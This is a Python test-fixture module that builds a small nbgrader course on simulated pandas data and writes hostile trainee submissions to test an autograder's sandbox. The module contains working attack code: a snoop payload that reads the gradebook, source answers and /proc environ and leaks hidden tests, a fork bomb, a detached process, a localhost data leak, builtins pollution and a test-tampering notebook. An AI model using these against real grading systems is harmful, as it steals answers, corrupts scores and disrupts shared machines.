"""A tiny self-contained nbgrader course for the autograder's tests and benchmark (模拟数据).

`build_course(root)` writes `nbgrader_config.py` and one assignment, `ag01`, whose notebook
`hotline.ipynb` analyses a small simulated table with pandas: two autograded answers, each with a
visible test and hidden tests, and one locked setup cell. It then runs nbgrader's own
GenerateAssignment (in-process) so the gradebook and `release/` exist, as `dangxiao release`
would. `write_submission(root, student, kind)` writes a trainee's submission built from the
released notebook: the reference answers, a blank one, a partly right one, or a misbehaving one.

The numbers below are simulated teaching data (模拟数据), not figures from the sources.
"""
from __future__ import annotations

import datetime as _dt
import json
import os
import sys
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

__all__ = ["ASSIGNMENT", "NOTEBOOK", "MAX_SCORE", "HIDDEN_MARKER", "build_course", "write_submission", "KINDS",
           "PROCESS_MARKERS"]

ASSIGNMENT = "ag01"
NOTEBOOK = "hotline"
MAX_SCORE = 5.0
# written into the hidden tests; the snoop submission searches readable files for it
HIDDEN_MARKER = "dangxiao-hidden-" + "marker-5c1e"

SETUP = """\
import pandas as pd
# 模拟数据 / simulated data
calls = pd.DataFrame({
    "district": ["江岸区", "江汉区", "硚口区", "汉阳区"],
    "requests": [120, 95, 130, 88],
    "closed": [114, 90, 121, 80],
})"""

ANSWER_TOTAL = """\
def total_requests(df):
    \"\"\"诉求总数 / total number of requests\"\"\"
    ### BEGIN SOLUTION
    return int(df["requests"].sum())
    ### END SOLUTION"""

TEST_TOTAL = f"""\
assert total_requests(calls) == 433
### BEGIN HIDDEN TESTS
# {HIDDEN_MARKER}
assert total_requests(calls.iloc[:2]) == 215
### END HIDDEN TESTS"""

ANSWER_RATE = """\
def close_rate(df):
    \"\"\"按区计算办结率（%），保留一位小数 / closing rate per district in %, one decimal\"\"\"
    ### BEGIN SOLUTION
    return (df["closed"] / df["requests"] * 100).round(1).tolist()
    ### END SOLUTION"""

TEST_RATE = f"""\
assert close_rate(calls)[0] == 95.0
### BEGIN HIDDEN TESTS
# {HIDDEN_MARKER}
assert close_rate(calls) == [95.0, 94.7, 93.1, 90.9]
### END HIDDEN TESTS"""

PARTLY_WRONG_RATE = """\
def close_rate(df):
    return (df["closed"] / df["requests"]).round(1).tolist()"""

REFERENCE = {
    "answer_total": 'def total_requests(df):\n    return int(df["requests"].sum())',
    "answer_rate": 'def close_rate(df):\n    return (df["closed"] / df["requests"] * 100).round(1).tolist()',
}


def _meta(grade_id, *, grade=False, solution=False, locked=False, points=0):
    meta = {"grade": grade, "grade_id": grade_id, "locked": locked, "schema_version": 3, "solution": solution}
    if grade:
        meta["points"] = points
    return {"nbgrader": meta}


def source_notebook() -> nbformat.NotebookNode:
    nb = new_notebook()
    nb.metadata["kernelspec"] = {"display_name": "Python 3", "language": "python", "name": "python3"}
    nb.cells = [
        new_markdown_cell("# 热线数据练习（模拟数据）\n\n完成两个函数，运行检查。"),
        new_code_cell(SETUP, metadata=_meta("setup", locked=True)),
        new_code_cell(ANSWER_TOTAL, metadata=_meta("answer_total", solution=True)),
        new_code_cell(TEST_TOTAL, metadata=_meta("test_total", grade=True, locked=True, points=2)),
        new_code_cell(ANSWER_RATE, metadata=_meta("answer_rate", solution=True)),
        new_code_cell(TEST_RATE, metadata=_meta("test_rate", grade=True, locked=True, points=3)),
    ]
    return nb


def _ensure_venv_on_path() -> None:
    # nbgrader runs `alembic` from PATH when it creates a gradebook
    bin_dir = os.path.dirname(sys.executable)
    if bin_dir not in os.environ.get("PATH", "").split(os.pathsep):
        os.environ["PATH"] = bin_dir + os.pathsep + os.environ.get("PATH", "")


def build_course(root: Path, course_id: str = "dangxiao_test") -> Path:
    """Write the course and generate the assignment with nbgrader; returns the course root."""
    from nbgrader.converters import GenerateAssignment
    from nbgrader.coursedir import CourseDirectory
    from traitlets.config import Config

    _ensure_venv_on_path()
    root = Path(root).resolve()
    (root / "source" / ASSIGNMENT).mkdir(parents=True, exist_ok=True)
    (root / "nbgrader_config.py").write_text(
        "c = get_config()  # noqa\n"
        f"c.CourseDirectory.course_id = {course_id!r}\n"
        "c.Execute.timeout = 30\n"
        "# every autograde path (nbgrader autograde, the formgrader, dangxiao autograde) in the sandbox\n"
        "from dangxiao.grading.autograde import sandboxed_autograde_config\n"
        "c.merge(sandboxed_autograde_config())\n",
        encoding="utf-8",
    )
    nbformat.write(source_notebook(), root / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
    (root / "source" / ASSIGNMENT / "readme.txt").write_text("模拟数据练习 / simulated data\n", encoding="utf-8")
    config = Config()
    config.CourseDirectory.root = str(root)
    config.CourseDirectory.course_id = course_id
    coursedir = CourseDirectory(config=config, assignment_id=ASSIGNMENT)
    cwd = os.getcwd()
    try:
        GenerateAssignment(coursedir=coursedir, config=config).start()
    finally:
        os.chdir(cwd)
    return root


# Misbehaving answers, put into the first answer cell. `__COURSE__` is the course root: the attacker
# is assumed to know it.
SNOOP = r'''
import json, os, socket
report = {"uid": os.getuid(), "cwd": os.getcwd()}
course = __COURSE__
def attempt(name, action):
    try:
        value = action()
        report[name] = "GOT: " + repr(value)[:200]
    except Exception as error:
        report[name] = "denied: " + type(error).__name__
def read(path, size=-1):
    with open(path, "rb") as handle:
        return handle.read(size)
def append(path):
    with open(path, "ab") as handle:
        return handle.write(b"x")
attempt("read_source", lambda: read(os.path.join(course, "source", "ag01", "hotline.ipynb")))
attempt("read_source_relative", lambda: read("../../../source/ag01/hotline.ipynb"))
attempt("read_source_dotdot", lambda: read("../../source/ag01/hotline.ipynb"))
attempt("read_release", lambda: read(os.path.join(course, "release", "ag01", "hotline.ipynb")))
attempt("read_gradebook", lambda: read(os.path.join(course, "gradebook.db"), 64))
attempt("read_config", lambda: read(os.path.join(course, "nbgrader_config.py")))
attempt("read_autograded_self", lambda: read(os.path.join(course, "autograded", "snoop", "ag01", "hotline.ipynb")))
attempt("read_other_submission", lambda: read(os.path.join(course, "submitted", "honest", "ag01", "hotline.ipynb")))
attempt("write_gradebook", lambda: append(os.path.join(course, "gradebook.db")))
attempt("write_source", lambda: append(os.path.join(course, "source", "ag01", "hotline.ipynb")))
attempt("write_config", lambda: append(os.path.join(course, "nbgrader_config.py")))
attempt("list_course", lambda: os.listdir(course))
attempt("list_home", lambda: os.listdir(os.path.expanduser("~" + __GRADER__)))
attempt("parent_cwd", lambda: os.listdir("/proc/%d/cwd" % os.getppid()))
attempt("parent_environ", lambda: read("/proc/%d/environ" % os.getppid(), 64) if os.getppid() > 1 else read("/proc/0/environ"))
attempt("proc_root_course", lambda: read("/proc/1/root" + course + "/gradebook.db", 64))
attempt("proc_self_root_course", lambda: read("/proc/self/root" + course + "/nbgrader_config.py"))
def hunt():
    import sys
    marker = "dangxiao-hidden-" + "marker-5c1e"
    found = []
    # the interpreter's own trees are large and hold no course: skipped to stay within the cell timeout
    interpreter = tuple({sys.prefix, sys.base_prefix, *[p for p in sys.path if "-packages" in p]})
    starts = [os.path.dirname(os.getcwd()), "/", os.path.dirname(course), course, "/tmp", "/root", "/home"]
    for start in starts:
        for dirpath, dirnames, filenames in os.walk(start):
            if dirpath.startswith(("/usr", "/proc", "/sys", "/dev") + interpreter):  # /dev/ptmx would block
                dirnames[:] = []
                continue
            if dirpath.count(os.sep) - start.count(os.sep) > 5:
                dirnames[:] = []
            for name in filenames:
                path = os.path.join(dirpath, name)
                try:
                    with open(path, "rb") as handle:
                        if marker.encode() in handle.read(2_000_000):
                            found.append(path)
                except Exception:
                    pass
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as handle:
                    found.append("proc %s: %s" % (pid, handle.read(200)))
            except Exception:
                pass
    return found
report["hunt"] = hunt()
def leak(info):  # prints the source of every later cell, hidden tests included, into the output
    print("LEAK: " + info.raw_cell)
get_ipython().events.register("pre_run_cell", leak)
with open("snoop-report.json", "w") as handle:
    json.dump(report, handle)
print("SNOOP-REPORT " + json.dumps(report))
'''

# opens a TCP connection to a port on 127.0.0.1 the test listens on
NETWORK = r'''
import socket
try:
    socket.create_connection(("127.0.0.1", __PORT__), timeout=3).sendall(b"dangxiao-leak")
    print("NETWORK-RESULT connected")
except OSError as error:
    print("NETWORK-RESULT refused:", type(error).__name__)
'''

# as many processes as it may, each sleeping with a marker in its command line
FORK_BOMB = r'''
import os, time
children = 0
try:
    while children < 10000:
        pid = os.fork()
        if pid == 0:
            os.execv("/bin/sleep", ["dangxiao-forkbomb-marker", "600"])
        children += 1
except OSError as error:
    print("FORK-LIMIT", children, type(error).__name__)
'''

# a process that leaves the kernel's session and would outlive grading
DETACHED = r'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "dangxiao-detached-marker"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("DETACHED started")
'''


KINDS = ("reference", "blank", "partial", "loop", "sigint", "malformed", "truncated", "snoop", "crash", "flood",
         "memory", "polluter", "no_rate", "network", "forkbomb", "detached", "bigoutput", "tampered")
# what the hostile kinds leave in process command lines (a test looks for survivors)
PROCESS_MARKERS = ("dangxiao-forkbomb-marker", "dangxiao-detached-marker")


def _fill(nb, answers: dict[str, str]) -> None:
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]


def write_submission(root: Path, student: str, kind: str, timestamp: str | None = None, port: int = 9,
                     grader: str = "root") -> Path:
    """Write `submitted/<student>/ag01/` for one kind of trainee; returns the notebook path.
    `port`: where the "network" kind connects; `grader`: whose home the "snoop" kind lists."""
    root = Path(root)
    if kind not in KINDS:
        raise ValueError(f"unknown kind {kind!r}; choose from {KINDS}")
    folder = root / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    released = nbformat.read(root / "release" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    path = folder / f"{NOTEBOOK}.ipynb"
    answers = dict(REFERENCE)
    if kind == "blank":
        answers = {}
    elif kind == "tampered":
        answers = {}
    elif kind == "partial":
        answers["answer_rate"] = PARTLY_WRONG_RATE
    elif kind == "loop":
        answers["answer_total"] = "while True:\n    pass\n" + REFERENCE["answer_total"]
    elif kind == "sigint":
        answers["answer_total"] = (REFERENCE["answer_total"]
                                   + "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")
    elif kind == "snoop":
        answers["answer_total"] = REFERENCE["answer_total"] + "\n" + SNOOP.replace(
            "__COURSE__", repr(str(Path(root).resolve()))).replace("__GRADER__", repr(grader))
    elif kind == "network":
        answers["answer_total"] = REFERENCE["answer_total"] + "\n" + NETWORK.replace("__PORT__", str(int(port)))
    elif kind == "forkbomb":
        answers["answer_total"] = REFERENCE["answer_total"] + "\n" + FORK_BOMB
    elif kind == "detached":
        answers["answer_total"] = REFERENCE["answer_total"] + "\n" + DETACHED
    elif kind == "bigoutput":
        # 100 MB of output, 1 MB at a time
        answers["answer_total"] = REFERENCE["answer_total"] + "\nimport sys\nfor _ in range(100):\n    sys.stdout.write('x' * 1024 * 1024)"
    elif kind == "crash":
        answers["answer_total"] = REFERENCE["answer_total"] + "\nimport os\nos._exit(3)"
    elif kind == "memory":
        # 4 GB at once: refused by the kernel's address-space limit, MemoryError, first part lost
        answers["answer_total"] = "hog = bytearray(4 * 1024 ** 3)\n" + REFERENCE["answer_total"]
    elif kind == "polluter":
        # correct, and tries to leave answers behind for whoever runs next in a kernel like it
        answers["answer_total"] = REFERENCE["answer_total"] + (
            "\nimport builtins, pandas"
            "\nbuiltins.close_rate = lambda df: [95.0, 94.7, 93.1, 90.9]"
            "\npandas.DataFrame.polluted = True")
    elif kind == "no_rate":
        # leaves the second answer out: 2/5, unless a polluter's builtins leaked into its kernel
        answers["answer_rate"] = "pass"
    elif kind == "flood":
        answers["answer_total"] = REFERENCE["answer_total"] + "\nfor i in range(200000):\n    print('刷屏' * 20)"
    _fill(released, answers)
    if kind == "tampered":
        # blank answers, and the tests (locked, graded cells) replaced by ones that always pass
        for cell in released.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade") and not meta.get("solution"):
                cell.source = "assert True"
                meta["points"] = 100
    text = nbformat.writes(released)
    if kind == "malformed":
        text = text.replace('"cells": [', '"cells": [[', 1)
    elif kind == "truncated":
        text = text[: len(text) // 2]
    path.write_text(text, encoding="utf-8")
    (folder / "answers.json").write_text(json.dumps({"student": student}, ensure_ascii=False), encoding="utf-8")
    stamp = timestamp or _dt.datetime(2026, 11, 20, 9, 0, tzinfo=_dt.timezone.utc).strftime("%Y-%m-%d %H:%M:%S.%f %Z")
    (folder / "timestamp.txt").write_text(stamp, encoding="utf-8")
    return path
